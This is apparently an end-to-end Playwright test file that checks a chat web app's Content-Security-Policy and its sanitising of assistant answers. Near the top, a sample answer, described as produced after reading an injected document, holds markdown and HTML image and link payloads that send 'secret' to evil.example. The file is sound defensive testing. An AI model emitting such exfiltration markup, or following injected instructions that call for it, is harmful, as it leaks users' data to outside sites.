"""The SPA's defences in a real browser: its Content-Security-Policy, and answers that cannot send
what they contain to another site (dev dataset, local stack)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Page, expect

from .test_spa import ask, last_exchange_done, scripted_answer, sign_in

pytestmark = pytest.mark.e2e

# Markdown an answer could carry after reading an injected document: an image and a link that would
# hand "secret" to evil.example, raw HTML doing the same, and a link to one of our own records.
EXFILTRATING_ANSWER = (
    "Order found. ![x](https://evil.example/p?q=secret) Details: [click](https://evil.example) and "
    '[WO-10001](/api/records/work_order/WO-10001). <img src="https://evil.example/raw?q=secret" alt="raw"> '
    '<a href="https://evil.example/a?q=secret">html link</a>'
)


def csp_directives(header: str) -> dict[str, list[str]]:
    return {name: sources for name, *sources in (part.split() for part in header.split(";") if part.strip())}


def test_spa_works_under_its_content_security_policy(page: Page, server: str, csp_violations: list[str]) -> None:
    """The page carries the CSP, and streaming, charts and the record panel run without a violation."""
    response = page.goto("/")
    assert response is not None and response.ok
    csp = csp_directives(response.headers["content-security-policy"])
    assert csp["default-src"] == csp["script-src"] == ["'self'"]
    assert csp["object-src"] == csp["frame-ancestors"] == ["'none'"]
    assert f"ws://{urlparse(server).netloc}" in csp["connect-src"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"

    sign_in(page)
    expect(page.locator(".connection-open")).to_be_visible()  # the WebSocket is allowed
    page.get_by_role("button", name="Inventory status").click()
    expect(last_exchange_done(page).locator(".chart canvas")).to_be_visible()
    page.get_by_role("button", name="Overdue orders").click()
    last_exchange_done(page).locator(".chip").first.click()
    expect(page.locator(".source-panel")).to_have_attribute("data-state", "record")
    assert csp_violations == []

    # The listener does see a violation: a foreign image is blocked and reported (then forgiven).
    page.evaluate("() => { const i = new Image(); i.src = 'https://evil.example/probe.png'; document.body.append(i); }")
    reported = "img-src blocked https://evil.example/probe.png"
    for _ in range(50):
        if any(reported in v for v in csp_violations):
            break
        page.wait_for_timeout(100)
    assert any(reported in v for v in csp_violations), csp_violations
    assert all("evil.example/probe.png" in v for v in csp_violations), csp_violations
    csp_violations.clear()


@pytest.fixture
def csp_free_page(browser: Any, server: str) -> Iterator[tuple[Page, list[str]]]:
    """A page with the CSP switched off, so only the SPA's own rendering stands in the way, and every
    request it makes to evil.example recorded (and refused: tests never reach the network)."""
    context = browser.new_context(base_url=server, bypass_csp=True)
    context.set_default_timeout(20_000)
    requested: list[str] = []
    context.route(
        re.compile(r"^https?://([^/]*\.)?evil\.example"),
        lambda route: (requested.append(route.request.url), route.abort()),
    )
    page = context.new_page()
    page.on("request", lambda request: "evil.example" in request.url and requested.append(request.url))
    yield page, requested
    context.close()


def test_answers_cannot_link_or_load_other_sites(csp_free_page: tuple[Page, list[str]]) -> None:
    page, requested = csp_free_page
    page.route_web_socket(lambda url: "/ws?" in url, scripted_answer(EXFILTRATING_ANSWER))
    sign_in(page)
    answer = ask(page, "Which order is it?").locator(".answer-text")

    expect(answer).to_contain_text("Details: click and WO-10001.")
    expect(answer).to_contain_text("html link")
    own = answer.locator("a")
    expect(own).to_have_count(1)
    expect(own).to_have_attribute("href", "/api/records/work_order/WO-10001")
    expect(answer.locator("img")).to_have_count(0)
    assert page.locator("[href*='evil.example'], [src*='evil.example'], [srcset*='evil.example']").count() == 0
    page.wait_for_timeout(500)  # time for any straggling image request
    assert requested == []
